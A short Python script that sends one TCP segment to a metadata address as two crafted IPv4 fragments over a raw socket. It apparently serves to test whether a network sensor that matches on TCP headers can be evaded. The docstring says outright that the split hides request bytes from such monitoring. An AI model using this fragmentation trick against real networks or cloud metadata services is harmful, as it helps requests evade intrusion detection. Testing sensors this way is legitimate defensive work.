#!/usr/bin/env python3
"""Sends one TCP segment to a metadata address as two IPv4 fragments, from a raw socket.

What a sender with CAP_NET_RAW can do to hide request bytes from anything that matches on
the TCP header: only the first fragment carries it. No handshake is made; the segment is
enough for the sensor to see (and for the service to answer with a reset).

  frag_sender.py SRC DST SPORT PAYLOAD_FILE|- [--first-data N]

--first-data: request bytes in the first fragment (default 4; 20 + N must be a multiple of 8).
"""
import argparse
import socket
import struct
import sys


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("dst")
    ap.add_argument("sport", type=int)
    ap.add_argument("--first-data", type=int, default=4)
    a = ap.parse_args()
    payload = sys.stdin.buffer.read()
    if (20 + a.first_data) % 8:
        sys.exit("frag_sender: 20 + --first-data must be a multiple of 8")
    # TCP header: ports, seq, ack, data offset 5, PSH|ACK, window; the checksum is left 0
    # (the sensor never gates on it).
    tcp = struct.pack("!HHIIBBHHH", a.sport, 80, 1000, 0, 5 << 4, 0x18, 65535, 0, 0)
    segment = tcp + payload
    cut = 20 + a.first_data
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    src, dst = socket.inet_aton(a.src), socket.inet_aton(a.dst)
    ident = 0x4e46
    for offset, chunk, more in ((0, segment[:cut], True), (cut, segment[cut:], False)):
        frag = (0x2000 if more else 0) | (offset // 8)
        # Version/IHL, TOS, total length, id, flags+offset, TTL, protocol, checksum (the kernel
        # fills it in for IP_HDRINCL), source, destination.
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(chunk), ident, frag, 64, 6, 0, src, dst)
        s.sendto(ip + chunk, (a.dst, 0))
    return 0


if __name__ == "__main__":
    sys.exit(main())
